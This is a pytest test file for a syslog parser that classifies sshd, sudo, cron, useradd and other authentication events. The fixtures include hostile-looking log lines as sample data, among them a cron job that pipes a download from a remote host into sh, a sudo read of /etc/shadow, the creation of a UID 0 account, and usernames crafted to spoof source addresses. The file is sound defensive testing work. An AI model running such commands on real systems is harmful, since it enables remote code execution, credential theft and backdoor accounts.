from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

NOW = datetime(2026, 3, 5, 12, tzinfo=UTC)


def line(message: str, program: str = "sshd[42]") -> str:
    return f"Mar  5 02:10:00 web-1 {program}: {message}\n"


FROM = "from 203.0.113.9 port 4000"
NONE = (None, None, None)
ALICE = ("alice", "203.0.113.9", 4000)
PAM = "logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9"

SSHD = [
    (f"Accepted password for alice {FROM} ssh2", "accepted_password", "success", ALICE),
    (f"Accepted publickey for alice {FROM} ssh2: ED25519 SHA256:abc", "accepted_publickey", "success", ALICE),
    (
        f"Accepted keyboard-interactive/pam for alice {FROM} ssh2",
        "accepted_keyboard_interactive_pam",
        "success",
        ALICE,
    ),
    (f"Failed password for alice {FROM} ssh2", "failed_password", "failure", ALICE),
    (f"Failed password for invalid user alice {FROM} ssh2", "failed_password", "failure", ALICE),
    (f"Failed none for invalid user  {FROM} ssh2", "failed_none", "failure", (None, *ALICE[1:])),
    (f"Failed publickey for alice {FROM} ssh2: RSA SHA256:abc", "failed_publickey", "failure", ALICE),
    (
        "Failed password for root from 2001:db8::1 port 22 ssh2",
        "failed_password",
        "failure",
        ("root", "2001:db8::1", 22),
    ),
    (
        "Failed password for root from ::ffff:192.0.2.1 port 22 ssh2",
        "failed_password",
        "failure",
        ("root", "192.0.2.1", 22),
    ),
    (f"Invalid user alice {FROM}", "invalid_user", "failure", ALICE),
    ("Invalid user alice from 203.0.113.9", "invalid_user", "failure", ("alice", "203.0.113.9", None)),
    (f"Invalid user  {FROM}", "invalid_user", "failure", (None, *ALICE[1:])),
    (
        f"error: maximum authentication attempts exceeded for alice {FROM} ssh2 [preauth]",
        "max_attempts",
        "failure",
        ALICE,
    ),
    (
        f"error: maximum authentication attempts exceeded for invalid user alice {FROM} ssh2 [preauth]",
        "max_attempts",
        "failure",
        ALICE,
    ),
    (
        "Disconnecting invalid user alice 203.0.113.9 port 4000: Too many authentication failures [preauth]",
        "too_many_failures",
        "failure",
        ALICE,
    ),
    (
        "Disconnecting: Too many authentication failures for root [preauth]",
        "too_many_failures",
        "failure",
        ("root", None, None),
    ),
    (
        "User alice from 203.0.113.9 not allowed because not listed in AllowUsers",
        "not_allowed",
        "failure",
        ("alice", "203.0.113.9", None),
    ),
    (
        "Did not receive identification string from 203.0.113.9",
        "no_identification",
        "failure",
        (None, "203.0.113.9", None),
    ),
    (f"Did not receive identification string {FROM}", "no_identification", "failure", (None, *ALICE[1:])),
    (
        f"Bad protocol version identification 'GET / HTTP/1.1' {FROM}",
        "bad_protocol",
        "failure",
        (None, *ALICE[1:]),
    ),
    (f"banner exchange: Connection {FROM}: invalid format", "banner_exchange", "failure", (None, *ALICE[1:])),
    ("Connection closed by 203.0.113.9 port 4000 [preauth]", "connection_closed", None, (None, *ALICE[1:])),
    ("Connection closed by 203.0.113.9 [preauth]", "connection_closed", None, (None, "203.0.113.9", None)),
    (
        "Connection closed by authenticating user alice 203.0.113.9 port 4000 [preauth]",
        "connection_closed",
        None,
        ALICE,
    ),
    (
        "Connection reset by invalid user alice 203.0.113.9 port 4000 [preauth]",
        "connection_closed",
        None,
        ALICE,
    ),
    ("Disconnected from user alice 203.0.113.9 port 4000", "disconnected", None, ALICE),
    (
        "Received disconnect from 203.0.113.9 port 4000:11: Bye Bye [preauth]",
        "received_disconnect",
        None,
        (None, *ALICE[1:]),
    ),
    (
        "Received disconnect from 203.0.113.9: 11: disconnected by user",
        "received_disconnect",
        None,
        (None, "203.0.113.9", None),
    ),
    (
        "fatal: Timeout before authentication for 203.0.113.9 port 4000",
        "timeout",
        "failure",
        (None, *ALICE[1:]),
    ),
    (
        "Unable to negotiate with 203.0.113.9 port 4000: no matching key exchange method found. [preauth]",
        "no_agreement",
        "failure",
        (None, *ALICE[1:]),
    ),
    (
        "error: PAM: Authentication failure for illegal user alice from 203.0.113.9",
        "authentication_failure",
        "failure",
        ("alice", "203.0.113.9", None),
    ),
    (
        f"pam_unix(sshd:auth): authentication failure; {PAM}  user=alice",
        "authentication_failure",
        "failure",
        ("alice", "203.0.113.9", None),
    ),
    (
        f"pam_unix(sshd:auth): authentication failure; {PAM}",
        "authentication_failure",
        "failure",
        (None, "203.0.113.9", None),
    ),
    (
        "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
        "session_opened",
        "success",
        ("alice", None, None),
    ),
    ("pam_unix(sshd:session): session closed for user alice", "session_closed", None, ("alice", None, None)),
    ("Server listening on 0.0.0.0 port 22.", "listening", None, NONE),
    ("Something that no version ever said", None, None, NONE),
]


@pytest.mark.parametrize(("message", "event", "outcome", "who"), SSHD)
def test_what_sshd_says_is_understood(read, message, event, outcome, who):
    found = read(line(message), year_hint=NOW).event
    assert found.action == (event and f"sshd:{event}")
    assert found.outcome == outcome
    assert (found.user, found.src_ip, found.src_port) == who
    assert (found.source, found.process, found.pid, found.target) == ("syslog", "sshd", 42, "web-1")
    assert found.message == message
    assert found.time == datetime(2026, 3, 5, 2, 10, tzinfo=UTC)


def test_newer_versions_name_their_parts_and_mean_the_same(read):
    event = read(line(f"Failed password for root {FROM} ssh2", "sshd-session[7]")).event
    assert (event.action, event.process) == ("sshd:failed_password", "sshd-session")
    assert json.loads(event.record)["service"] == "sshd"


HOST = [
    (
        "sudo",
        "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow",
        ("sudo:command", "success", "alice"),
        {"command": "/bin/cat /etc/shadow", "target_user": "root", "tty": "pts/0"},
    ),
    (
        "sudo",
        "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        ("sudo:command", "failure", "bob"),
        {"reason": "user NOT in sudoers", "command": "/bin/ls"},
    ),
    (
        "sudo",
        "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        ("sudo:command", "failure", "bob"),
        {"reason": "3 incorrect password attempts"},
    ),
    (
        "sudo",
        "alice : PWD=/ ; USER=root ; ENV=A=b ; COMMAND=/bin/sh -c a ; COMMAND=b",
        ("sudo:command", "success", "alice"),
        {"command": "/bin/sh -c a ; COMMAND=b"},
    ),
    (
        "sudo",
        "pam_unix(sudo:session): session opened for user root by alice(uid=1000)",
        ("sudo:session_opened", "success", "alice"),
        {"target_user": "root"},
    ),
    ("su[9]", "Successful su for root by alice", ("su:success", "success", "alice"), {"target_user": "root"}),
    ("su", "FAILED SU (to root) alice on pts/1", ("su:failed", "failure", "alice"), {"target_user": "root"}),
    (
        "CRON[8]",
        "(root) CMD (curl -s http://198.51.100.7/x | sh)",
        ("cron:command", "success", "root"),
        {"command": "curl -s http://198.51.100.7/x | sh"},
    ),
    ("/usr/sbin/cron[8]", "(alice) CMD (true)", ("cron:command", "success", "alice"), {"command": "true"}),
    (
        "crontab[8]",
        "(alice) REPLACE (alice)",
        ("crontab:replace", "success", "alice"),
        {"target_user": "alice"},
    ),
    (
        "useradd[8]",
        "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
        ("useradd:new_user", "success", "eve"),
        {"uid": "0", "shell": "/bin/bash"},
    ),
    (
        "groupadd[8]",
        "new group: name=apache, GID=48",
        ("groupadd:new_group", "success", None),
        {"group": "apache"},
    ),
    (
        "usermod[8]",
        "add 'eve' to group 'sudo'",
        ("usermod:added_to_group", "success", "eve"),
        {"group": "sudo"},
    ),
    ("usermod[8]", "change user 'eve' password", ("usermod:password_changed", "success", "eve"), {}),
    (
        "passwd[8]",
        "pam_unix(passwd:chauthtok): password changed for eve",
        ("passwd:password_changed", "success", "eve"),
        {},
    ),
    (
        "chpasswd[8]",
        "password for 'eve' changed by 'root'",
        ("chpasswd:password_changed", "success", "eve"),
        {},
    ),
    ("userdel[8]", "delete user 'eve'", ("userdel:deleted_user", "success", "eve"), {}),
    (
        "systemd-logind[8]",
        "New session c12 of user alice.",
        ("systemd-logind:new_session", "success", "alice"),
        {"session": "c12"},
    ),
    (
        "login[8]",
        "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure",
        ("login:failed", "failure", "root"),
        {"tty": "/dev/tty1"},
    ),
    (
        "dropbear[8]",
        "Bad password attempt for 'root' from 203.0.113.9:4000",
        ("dropbear:failed_password", "failure", "root"),
        {},
    ),
    (
        "sshd[8]",
        "pam_access(sshd:account): access denied for user `eve' from `203.0.113.9'",
        ("sshd:not_allowed", "failure", "eve"),
        {"src_ip": "203.0.113.9"},
    ),
    (
        "sshd[8]",
        "pam_sss(sshd:auth): received for user eve: 7 (Authentication failure)",
        ("sshd:authentication_failure", "failure", "eve"),
        {"reason": "Authentication failure"},
    ),
    (
        "usermod[8]",
        "change user name 'bob' to 'eve'",
        ("usermod:renamed_user", "success", "bob"),
        {"target_user": "eve"},
    ),
    ("sudo", "pam_tally2(sudo:auth): user eve (4001) tally 6, deny 5", ("sudo:locked", "failure", "eve"), {}),
]


@pytest.mark.parametrize(("program", "message", "what", "more"), HOST)
def test_what_other_programs_say_of_users_is_understood(read, program, message, what, more):
    event = read(line(message, program)).event
    assert (event.action, event.outcome, event.user) == what
    assert json.loads(event.record).items() >= more.items()


@pytest.mark.parametrize(
    "name",
    [
        "root from 192.0.2.1",
        "root from 192.0.2.1 port 22 ssh2",
        "root from 192.0.2.1 port 22 ssh2: RSA x",
        "a for b from c",
        "x 192.0.2.1 port 5 [preauth]",
    ],
)
@pytest.mark.parametrize(
    "message",
    [
        f"Failed password for invalid user {{}} {FROM} ssh2",
        f"Invalid user {{}} {FROM}",
        "Connection closed by invalid user {} 203.0.113.9 port 4000 [preauth]",
        f"error: maximum authentication attempts exceeded for invalid user {{}} {FROM} ssh2 [preauth]",
    ],
)
def test_a_user_name_cannot_pass_an_address_off_as_the_attackers(read, message, name):
    event = read(line(message.format(name))).event
    assert (event.user, event.src_ip, event.src_port) == (name, "203.0.113.9", 4000)


@pytest.mark.parametrize(
    ("text", "times"),
    [
        (line(f"message repeated 5 times: [ Failed password for root {FROM} ssh2]"), 5),
        (line(f"PAM 4 more authentication failures; {PAM}  user=root"), 4),
    ],
)
def test_a_line_that_stands_for_many_says_for_how_many(read, text, times):
    event = read(text).event
    assert (event.outcome, event.user, event.src_ip) == ("failure", "root", "203.0.113.9")
    assert json.loads(event.record)["repeated"] == times


def test_the_last_message_repeated_is_what_that_message_said(read):
    found = read(line(f"Failed password for root {FROM} ssh2") + line("last message repeated 3 times"))
    again = found.events[1]
    assert (again.action, again.src_ip, again.message) == (
        "sshd:failed_password",
        "203.0.113.9",
        "last message repeated 3 times",
    )
    assert json.loads(again.record)["repeated"] == 3


def test_messages_repeated_in_messages_repeated_are_no_crash(read):
    found = read(line("message repeated 2 times: [ " * 20_000 + "]" * 20_000))
    assert found.event.action is None
